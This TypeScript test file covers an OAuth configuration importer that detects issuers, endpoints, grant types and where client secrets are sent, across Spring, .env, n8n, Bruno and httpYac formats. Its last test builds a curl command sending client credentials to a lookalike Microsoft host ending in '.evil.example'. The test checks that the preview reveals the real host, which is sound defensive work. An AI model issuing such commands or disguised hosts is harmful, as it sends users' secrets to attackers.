import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { importText } from '../../../src/core/import/importText.ts';
import { ready } from './planned.ts';

const only = (text: string, fileName: string) => {
  const { profiles, problems } = importText(text, undefined, fileName);
  assert.equal(profiles.length, 1, JSON.stringify(problems));
  const [{ entry, notes } = { entry: {}, notes: [] }] = profiles;
  return { entry: entry as Record<string, unknown>, said: JSON.stringify([notes, problems]) };
};

const spring = (provider: string) =>
  only(
    `spring.security.oauth2.client.registration.github.client-id=abc7
spring.security.oauth2.client.registration.github.client-secret=s3cr3t99
${provider}`,
    'application.properties',
  );

describe('a server of one’s own', () => {
  it('is Spring’s, where a provider that it knows itself has another issuer or other addresses', () => {
    const issuer = spring('spring.security.oauth2.client.provider.github.issuer-uri=https://ghe.acme.dev');
    assert.equal(issuer.entry['issuer'], 'https://ghe.acme.dev');
    assert.doesNotMatch(JSON.stringify(issuer.entry), /github\.com/);
    const { entry, said } = spring(
      `spring.security.oauth2.client.provider.github.authorization-uri=https://ghe.acme.dev/login/oauth/authorize
spring.security.oauth2.client.provider.github.token-uri=https://ghe.acme.dev/login/oauth/access_token`,
    );
    assert.equal(entry['tokenEndpoint'], 'https://ghe.acme.dev/login/oauth/access_token');
    assert.equal(entry['authorizationEndpoint'], 'https://ghe.acme.dev/login/oauth/authorize');
    assert.doesNotMatch(said, /two values/);
    assert.match(JSON.stringify(spring('').entry), /github\.com\/login\/oauth\/access_token/);
  });

  it('is not taken for the public one, which is said where it is', () => {
    const client = (name: string) => `${name}_ID=1234567\n${name}_SECRET=gl5ecret99\n`;
    for (const more of [
      'AUTH_GITHUB_ENTERPRISE_BASE_URL=https://git.acme.dev',
      'AUTH_GITHUB_HOST=git.acme.dev',
    ]) {
      const { entry } = only(`AUTH_SECRET=abc\n${client('AUTH_GITHUB')}${more}`, '.env');
      assert.doesNotMatch(JSON.stringify(entry), /github\.com/, more);
    }
    const gitlab = only(
      `AUTH_SECRET=abc\n${client('AUTH_GITLAB')}AUTH_GITLAB_URL=https://git.acme.dev`,
      '.env',
    );
    assert.equal(gitlab.entry['issuer'], undefined);
    for (const more of [
      'HOSTNAME=git.acme.dev',
      'BASE=https://git.acme.dev',
      'API=https://git.acme.dev/api',
    ]) {
      const { entry } = only(`${client('GITHUB_CLIENT')}GITHUB_${more}`, '.env');
      assert.doesNotMatch(JSON.stringify(entry), /github\.com/, more);
    }
    const shown = only(`${client('GITHUB_CLIENT')}GITHUB_CALLBACK=https://shop.acme.dev/back`, '.env');
    assert.match(JSON.stringify(shown.entry), /github\.com/);
    assert.match(
      only(`AUTH_SECRET=abc\n${client('AUTH_GITLAB')}`, '.env').said,
      /taken to be the public one/,
    );
  });
});

describe('what a client’s settings say of it', () => {
  const settings = { tokenUrl: 'https://o.acme.dev/token', clientId: 'abc7', clientSecret: 's3cr3t99' };

  it('is where n8n sends the secret', () => {
    for (const [authentication, method] of [
      ['body', 'client_secret_post'],
      ['header', 'client_secret_basic'],
      ['none', 'client_secret_basic'],
    ])
      assert.equal(
        only(JSON.stringify({ data: { ...settings, authentication } }), 'a.json').entry[
          'clientAuthentication'
        ],
        method,
      );
  });

  it('is that a code needs a browser, unless a grant is named', () => {
    const grantOf = (more: object) => only(JSON.stringify({ ...settings, ...more }), 'a.json').entry['grant'];
    assert.equal(grantOf({ ResponseType: 'code' }), 'authorization_code');
    assert.equal(grantOf({ response_type: 'code id_token' }), 'authorization_code');
    assert.equal(grantOf({ response_type: 'json' }), 'client_credentials');
    assert.equal(grantOf({ response_type: 'code', grantType: 'client_credentials' }), 'client_credentials');
  });
});

describe('a program', () => {
  it('with nothing but an id has no client', () => {
    for (const [name, text] of [
      ['a.js', "new Kafka({ clientId: 'my-app', brokers: ['kafka1:9092'] })"],
      ['build.gradle.kts', 'android {\n defaultConfig {\n applicationId = "com.acme.app"\n }\n}'],
    ] as const)
      assert.deepEqual(importText(text, undefined, name).profiles, [], name);
  });
});

describe('where a client’s secret is sent', () => {
  const methodOf = (text: string, fileName: string) => only(text, fileName).entry['clientAuthentication'];

  it('is the body for Bruno, unless it says otherwise', () => {
    const bru = (more: string) => `auth:oauth2 {
  grant_type: client_credentials
  access_token_url: https://o.acme.dev/token
  client_id: abc7
  client_secret: s3cr3t99
${more}}
`;
    assert.equal(methodOf(bru(''), 'a.bru'), 'client_secret_post');
    assert.equal(
      methodOf(bru('  credentials_placement: basic_auth_header\n'), 'a.bru'),
      'client_secret_basic',
    );
    const yaml = (placement: string) => `info:
  name: a
http:
  auth:
    type: oauth2
    flow: client_credentials
    accessTokenUrl: https://o.acme.dev/token
    credentials:
      clientId: abc7
      clientSecret: s3cr3t99
${placement}`;
    assert.equal(methodOf(yaml(''), 'a.yml'), 'client_secret_post');
    assert.equal(methodOf(yaml('      placement: basic_auth_header\n'), 'a.yml'), 'client_secret_basic');
  });

  it('is the header for httpYac, unless it says otherwise', () => {
    const env = (more: string) =>
      `oauth2_tokenEndpoint=https://o.acme.dev/t\noauth2_clientId=abc7\noauth2_clientSecret=s3cr3t99\n${more}`;
    assert.equal(methodOf(env(''), '.env'), 'client_secret_basic');
    assert.equal(methodOf(env('oauth2_useAuthorizationHeader=true'), '.env'), 'client_secret_basic');
    assert.equal(methodOf(env('oauth2_useAuthorizationHeader=false'), '.env'), 'client_secret_post');
  });
});

it('the preview shows the end of a host that its line would cut, which says whose it is', () => {
  const long = `login.microsoftonline.com.${'a'.repeat(60)}.${'b'.repeat(60)}.evil.example`;
  const one = ready(`curl -u 'id:s3cret-value' https://${long}/token -d grant_type=client_credentials`);
  const shown = one.secretHost ?? '';
  assert.ok(shown.endsWith('.evil.example') && shown.length <= 50 && shown.startsWith('…'), shown);
  assert.deepEqual(one.hosts, [shown]);
});
